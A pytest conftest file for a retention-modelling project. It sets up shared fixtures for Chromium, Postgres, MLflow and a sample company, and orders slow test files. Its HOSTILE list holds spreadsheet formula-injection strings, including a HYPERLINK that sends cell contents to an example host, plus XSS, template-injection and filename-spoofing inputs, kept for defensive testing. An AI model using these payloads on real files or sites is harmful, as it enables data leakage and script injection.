"""Fixtures that several tests share: a browser, small lists, a company, servers."""

import os
import shutil
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import settings
from playwright.sync_api import Browser, sync_playwright

from retention.core.storage import atomic, locks
from tests.support import company, services

settings.register_profile("suite", deadline=None)  # on a loaded machine any test is slow at times
settings.load_profile("suite")

_CHROMIUM_FLAGS = (
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
)


def _chromium() -> str | None:
    names = ("chromium", "chromium-browser", "google-chrome")
    return next((path for name in names if (path := shutil.which(name))), None)


@pytest.fixture(scope="session")
def browser() -> Iterator[Browser]:
    """The machine's own Chromium, one for all tests."""
    executable = _chromium()
    if executable is None:
        if os.environ.get("CI") == "true":
            pytest.fail("no Chromium on this machine: install chromium")
        pytest.skip("no Chromium on this machine")
    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(
            executable_path=executable, args=list(_CHROMIUM_FLAGS)
        )
        yield chromium
        chromium.close()


@pytest.fixture
def make_listing() -> Callable[..., Any]:
    """make_listing([{"name": ...}, ...], events=3, company=...): such rows, the rest made up."""
    from tests.support import worklists  # it imports the whole list: only for tests that want one

    return worklists.listing


DEAREST = (
    "tests/system/test_end_to_end.py",  # one process makes the shop
    "tests/features/test_spark.py",  # the other one has no use for it meanwhile
    "tests/system/test_telecom.py",
    "tests/retention/commands/test_score.py",
    "tests/faults/test_privacy.py",
    "tests/features/test_future.py",
    "tests/faults/test_models.py",
    "tests/faults/test_guards.py",
    "tests/faults/test_services.py",
    "tests/retention/tracking/test_server.py",
    "tests/repository/test_extending.py",
    "tests/system/test_two_cycles.py",
    "tests/system/test_short_history.py",
    "tests/system/test_experiments.py",
)
"""The files that take longest, in the order in which two processes are to start them."""


def pytest_collection_modifyitems(items: list[pytest.Item]) -> None:
    """DEAREST first: small files at the end keep both processes busy to the last."""
    place = {name: number for number, name in enumerate(DEAREST)}
    items.sort(key=lambda item: place.get(item.location[0], len(place)))


HOSTILE = (
    '=HYPERLINK("http://example.org/?"&A1,"click")',
    "+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "''@x",
    "'t Hooft",
    "＝1+1",  # noqa: RUF001
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{ 7 * 7 }} ${7*7} {% raw %}",
    "\u202egpj.exe",
    'He said "no", twice',
    "one\r\ntwo\nthree",
    "Zoë 👩‍👩‍👧 Åström",
    "http://example.org/",
    "_x0041_ \x01 \x7f",
    " spaces ",
    "NA",
    "00123",
    "x" * 40_000,
)
"""Texts that a name may be, each of which has broken some list somewhere."""


@pytest.fixture
def hostile() -> tuple[str, ...]:
    return HOSTILE


@pytest.fixture
def snapshot_of() -> Callable[[Path], dict[str, tuple[int, bytes]]]:
    """What a folder is: every file's modification time and bytes."""

    def snapshot(folder: Path) -> dict[str, tuple[int, bytes]]:
        return {
            str(path.relative_to(folder)): (path.stat().st_mtime_ns, path.read_bytes())
            for path in sorted(folder.rglob("*"))
            if path.is_file()
        }

    return snapshot


@pytest.fixture(scope="session")
def shop(tmp_path_factory: pytest.TempPathFactory) -> company.Checkout:
    """A small company's checkout in which `dvc repro` has run once. Copy it to change it.

    Where tests run in several processes, one makes it and each gets a copy.
    """
    folder = tmp_path_factory.mktemp("company") / "shop"
    if "PYTEST_XDIST_WORKER" not in os.environ:
        return company.make_reproduced(folder)
    shared = tmp_path_factory.getbasetemp().parent
    log = shared / "shop.log"
    with locks.hold(shared / "shop.lock", "making the shop", print, patience=900):
        if not log.exists():
            atomic.write_text(log, company.make_reproduced(shared / "shop").log)
    return company.Checkout(shared / "shop", log.read_text(encoding="utf-8")).copy(folder)


@pytest.fixture(scope="session")
def trained_company(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The folder of a company on which `train` has run with quick models. Copy it to change it."""
    from tests.support import training_company  # it imports every model

    return training_company.train_once(tmp_path_factory.mktemp("trained"))


@pytest.fixture(scope="session")
def postgres() -> Iterator[services.Postgres]:
    """A PostgreSQL of our own, one for all tests: each makes its own database in it."""
    with services.postgres() as running:
        yield running


@pytest.fixture(scope="session")
def mlflow_server(
    postgres: services.Postgres, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[services.MlflowServer]:
    """MLflow over HTTP with PostgreSQL behind it, one for all tests: it takes long to start."""
    store = postgres.create("mlflow")
    with services.mlflow_server(tmp_path_factory.mktemp("mlflow"), store) as running:
        yield running
